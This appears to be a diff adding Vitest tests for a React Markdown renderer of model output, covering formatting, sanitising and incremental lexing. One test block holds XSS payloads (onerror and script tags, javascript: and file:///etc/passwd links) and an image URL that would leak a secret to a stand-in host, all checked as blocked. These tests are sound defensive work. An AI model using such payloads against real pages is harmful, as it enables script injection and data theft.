@@ -1,0 +1,99 @@
+import fc from 'fast-check';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, test } from 'vitest';
+import { Markdown } from './markdown.tsx';
+import { lexMarkdown, NO_BLOCKS } from './markdown-blocks.ts';
+
+const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
+
+describe('what a model writes is shown', () => {
+  test.each([
+    ['# Tides\n\nThey *rise* and **fall**.', '<h3>Tides</h3><p>They <em>rise</em> and <strong>fall</strong>.</p>'],
+    ['1. one\n2. two', '<ol start="1"><li>one</li><li>two</li></ol>'],
+    ['```js\nif (a < b) {}\n```', '<pre><code>if (a &lt; b) {}</code></pre>'],
+    ['| a | b |\n|---|--:|\n| 1 | 2 |', '<td style="text-align:right">2</td>'],
+    ['a &amp; b &#233; &unknown;', 'a &amp; b é &amp;unknown;'],
+    ['- [x] done', '<input type="checkbox" disabled="" aria-label="Done" checked=""/>'],
+  ])('%j', (text, part) => {
+    expect(html(text)).toContain(part);
+  });
+});
+
+describe('nothing in it loads or runs by itself', () => {
+  test('HTML is text', () => {
+    const page = html('<img src=x onerror=alert(1)>\n\nso <b>bold</b> <script>alert(1)</script>');
+    expect(page).not.toMatch(/<(img|script|b)\b/);
+    expect(page).toContain('&lt;b&gt;bold&lt;/b&gt;');
+  });
+
+  test('images are named, not loaded', () => {
+    const page = html('![cat](https://evil.example/?q=secret) ![ref][1]\n\n[1]: https://evil.example/2');
+    expect(page).not.toContain('<img');
+    expect(page).toContain('Image: cat (evil.example, not loaded)');
+  });
+
+  test.each([
+    'javascript:alert(1)',
+    'data:text/html,x',
+    'JaVaScRiPt:alert(1)',
+    'vbscript:x',
+    'file:///etc/passwd',
+    '/etc',
+  ])('a link to %s is no link', (address) => {
+    expect(html(`[click](${address})`)).not.toContain('<a');
+  });
+
+  test('a web link opens elsewhere and tells nobody', () => {
+    expect(html('[site](https://example.org/a)')).toContain(
+      '<a href="https://example.org/a" title="https://example.org/a" target="_blank" rel="noopener noreferrer">site</a>',
+    );
+  });
+});
+
+describe('a text that grows', () => {
+  const piece = fc.constantFrom(
+    '# H\n',
+    'text ',
+    '\n',
+    '\n\n',
+    '- item\n',
+    '  more\n',
+    '1. n\n',
+    '```\n',
+    '> q\n',
+    '|a|b|\n|-|-|\n',
+    '**b**',
+    '---\n',
+    '    code\n',
+    '<div>\n',
+    'a\r\n',
+    '\r',
+  );
+
+  test('ends as the same blocks as the whole text', () => {
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
+        let blocks = NO_BLOCKS;
+        let text = '';
+        for (const each of pieces) {
+          text += each;
+          blocks = lexMarkdown(blocks, text);
+        }
+        const whole = lexMarkdown(NO_BLOCKS, text);
+        const raws = (of: typeof whole) =>
+          [...of.settled, ...of.tail]
+            .filter((token) => token.type !== 'space')
+            .map((token) => `${token.type} ${token.raw.trim()}`);
+        expect(raws(blocks)).toEqual(raws(whole));
+      }),
+      { numRuns: 3000 },
+    );
+  });
+
+  test('keeps the blocks that are settled', () => {
+    const first = lexMarkdown(NO_BLOCKS, 'One.\n\nTwo.\n\nThr');
+    const second = lexMarkdown(first, 'One.\n\nTwo.\n\nThree.');
+    expect(second.settled[0]).toBe(first.settled[0]);
+    expect(second.settled).toHaveLength(4);
+  });
+});
